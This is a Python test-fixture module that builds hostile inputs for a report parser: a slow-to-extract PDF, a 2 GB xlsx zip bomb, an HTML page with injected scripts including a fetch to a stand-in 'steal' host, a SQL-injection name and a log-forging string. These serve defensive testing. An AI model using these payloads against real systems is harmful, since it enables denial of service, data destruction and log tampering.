"""Hostile inputs, made on the spot."""

from __future__ import annotations

import io
import zipfile
import zlib

from tests import seed_variants


def spinning_pdf(text_objects: int = 1_600_000) -> bytes:
    """A valid 4 MB PDF whose one page holds over a million text objects: seconds of extraction."""
    ops = b"".join(b"BT /F1 1 Tf %d %d Td (x) Tj ET\n" % (i % 500, i // 500 % 700) for i in range(text_objects))
    stream = zlib.compress(ops, 9)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F1 4 0 R >> >> "
               b"/Contents 5 0 R >>",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def xlsx_zip_bomb() -> bytes:
    """An .xlsx whose sheet inflates from a few hundred kB to 2 GB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.'
                         'org/package/2006/content-types"/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.'
                         'org/spreadsheetml/2006/main"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1" '
                         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
                         '</sheets></workbook>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b"<row>" + b" " * (1024 * 1024 - 11) + b"</row>"
            for _ in range(2048):
                sheet.write(chunk)
    return buffer.getvalue()


def html_with_scripts() -> bytes:
    """The Midden-Limburg report as a web page full of scripts that must be ignored, not run."""
    rows = []
    for line in seed_variants.midden_limburg().decode().splitlines():
        cells = line.split("\t")
        if len(cells) >= 7 and cells[-1].strip():
            rows.append("<tr>" + "".join(f"<td>{c}</td>" for c in cells) + "</tr>")
    return ("<!doctype html><html><head><script>document.write('<table><tr><td>TOTAAL AMR</td></tr>')</script>"
            "</head><body><h1>Vierde kwartaal 2021</h1><h2>Midden-Limburg</h2>"
            "<script>fetch('http://example.invalid/steal')</script><table>" + "".join(rows) + "</table>"
            "<p>In Sonar zijn niet alle doelgroepers opgenomen, in de arbeidsmarktregio Midden-Limburg bevat het "
            "doelgroepregister banenafspraak in totaal 3.627 personen. Hiervan is 70% bekend binnen Sonar.</p>"
            "<script>alert(1)</script></body></html>").encode()


SQL_NAME = "Robert'); DROP TABLE report;--"
FORGED_NAME = 'Echt"}\n{"event": "report_stored", "level": "info", "forged": true}'


def report_with_hostile_names() -> bytes:
    """West-Brabant with municipality names that try SQL injection and log forging (tab style keeps
    the newline out of the table: the forging text rides in one cell)."""
    data = seed_variants.west_brabant()
    data = seed_variants.replace_once(data, b"Altena 6", SQL_NAME.encode() + b" 6")
    return seed_variants.replace_once(data, b"Breda 41", FORGED_NAME.replace("\n", " ").encode() + b" 41")
